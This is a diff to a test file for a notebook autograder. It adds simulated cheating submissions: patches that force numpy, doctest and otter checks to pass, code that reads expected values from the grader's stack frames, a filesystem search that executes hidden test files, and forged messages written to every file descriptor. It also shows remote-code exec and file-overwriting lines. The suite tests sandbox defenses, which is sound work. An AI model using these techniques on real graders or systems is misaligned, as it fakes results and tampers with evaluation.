@@ -1,10 +1,10 @@
 """A class of cheating and faulty submissions, graded beside an honest one in one run.
 
-Each cheat answers nothing itself (its answers are blank, worth 0 points): whatever points it
-gets, it got by cheating. The grader must give every cheat 0, keep the honest student's full
-marks, leak nothing and leave nothing running. What the sandbox does not stop yet (a patch of
-otter, doctest or NumPy written inside an answer cell, which runs in the same kernel as the
-tests) is said in docs/instructors.md and not claimed here.
+Each cheat answers nothing itself (its answers are blank, worth 0 points), except one that
+solves one question honestly beside its cheats: whatever else it gets, it got by cheating. The
+grader must give every cheat 0 for what it did not solve, keep the honest student's full
+marks, leak nothing (the solution, the hidden tests, the instructor's files and environment,
+the network) and leave nothing running.
 """
 
 import csv
@@ -53,6 +53,44 @@ def _submission(student, path, answers, extra_cells=(), replace_first_code=None)
     path.parent.mkdir(parents=True, exist_ok=True)
     nbformat.write(nb, path)
     return path
+
+
+VERDICT_CHEAT = """
+import doctest
+import sys
+
+import numpy as np
+
+np.allclose = np.isclose = lambda *args, **kwargs: True
+np.isinf = lambda x: np.ones(np.shape(x), bool)
+doctest.DocTestRunner.run = lambda self, *args, **kwargs: doctest.TestResults(0, 0)
+try:
+    from otter.test_files import abstract_test
+    abstract_test.TestFile.score = property(lambda self: self.possible)
+except Exception:
+    pass
+
+
+class Anything:
+    shape = (2,)
+    dtype = np.float32
+
+    def __eq__(self, other):
+        return True
+
+    def __getitem__(self, key):
+        return self
+
+
+def psnr(x, y):
+    expected = []  # an expected value, if the caller's frames held one
+    frame = sys._getframe(1)
+    while frame is not None:
+        expected += [v for v in frame.f_locals.values() if isinstance(v, float)]
+        frame = frame.f_back
+    return np.array(expected[:len(x)]) if expected else Anything()
+"""
+VERDICT_POLICY = "policy = Anything()"
 
 
 def _cheat(code):
@@ -108,6 +146,20 @@ import os
 if os.environ.get("COURSE_ATTACK_SECRET") == {SECRET!r}:
     exec({CORRECT_CODE!r})
 """,
+        "hidden_tests": """
+import os
+found = []
+for top, folders, files in os.walk("/"):
+    if top.startswith(("/proc", "/sys", "/dev")):
+        folders[:] = []
+        continue
+    found += [os.path.join(top, f) for f in files
+              if f == "q1.py" or (f.endswith(".zip") and "autograder" in f)]
+if found:
+    exec(open(found[0]).read() if found[0].endswith(".py") else "")
+    def psnr(x, y):  # knowing that the tests exist is enough to be caught here
+        return np.full(len(x), 10 * np.log10(4 / np.mean((x - y) ** 2)))
+""",
         "network": f"""
 import urllib.request
 exec(urllib.request.urlopen("http://127.0.0.1:{port}/", timeout=3).read().decode())
@@ -127,6 +179,17 @@ for top in ("/tmp", "/root", "/home", "/run"):
             open(path, "w").write("{}")
         except OSError:
             pass
+""",
+        # forged messages on every descriptor the kernel holds, the grader's channel included
+        "forge_channel": """
+import json, os, struct
+message = json.dumps({"ready": True, "reply": "0", "value": True, "found": {}}).encode()
+frame = b"CLW1" + struct.pack("<QQ", len(message), 0) + message
+for fd in sorted(int(name) for name in os.listdir("/proc/self/fd")):
+    try:
+        os.write(fd, frame * 3)
+    except OSError:
+        pass
 """,
         "rewrite_table_later": f"""
 import subprocess
@@ -156,16 +219,20 @@ children = [subprocess.Popen([sys.executable, "-c", code]) for _ in range(4)]
     # Five notebooks (each grading costs seconds): the honest one, and cheats grouped by what
     # they attack. A group scores 0 only if every attempt in it failed.
     leaks = "\n".join(cheats[name] for name in ("read_solution", "read_instructor_files",
-                                                 "read_environment"))
+                                                 "read_environment", "hidden_tests"))
     leaks += "\ntry:\n" + "\n".join("    " + line for line in cheats["network"].splitlines())
     leaks += "\nexcept OSError:\n    pass\n"
     sabotage = "\n".join(cheats[name] for name in ("sabotage_others", "rewrite_table_later",
-                                                    "plant_startup_file"))
+                                                    "plant_startup_file", "forge_channel"))
     paths = {
         "alice": _submission(student, subs / "a" / "notebook.ipynb", CORRECT),
         # the same file name in another folder
         "leaks": _submission(student, subs / "b" / "notebook.ipynb", _cheat(leaks)),
         "sabotage": _submission(student, subs / "sabotage.ipynb", _cheat(sabotage)),
+        # patches of the tests' tools in the answer cells, and answers that are not data;
+        # q2 is solved honestly and must keep its 2 points
+        "verdict": _submission(student, subs / "verdict.ipynb",
+                               [VERDICT_CHEAT, CORRECT[1], VERDICT_POLICY]),
         "memory_tree": _submission(student, subs / "memory_tree.ipynb",
                                    _cheat(cheats["memory_tree"])),
         # the answers in cells the grader does not grade (an added cell, a changed set-up
@@ -205,6 +272,9 @@ def test_a_class_of_cheats_graded_beside_an_honest_student(graded):
     for cheat in ("leaks", "sabotage", "memory_tree", "other_cells"):
         if rows[cheat]["total"] != 0:
             problems.append(f"{cheat} gained points: {rows[cheat]}")
+    verdict = rows["verdict"]
+    if (verdict["q1"], verdict["q2"], verdict["q3"]) != (0, 2, 0):
+        problems.append(f"patching the tests' tools changed a verdict: {verdict}")
     detail = rows["other_cells"]["detail"]
     if "1 added cell not graded" not in detail or "1 changed or deleted cell" not in detail:
         problems.append(f"cells outside the answers not reported: {detail}")
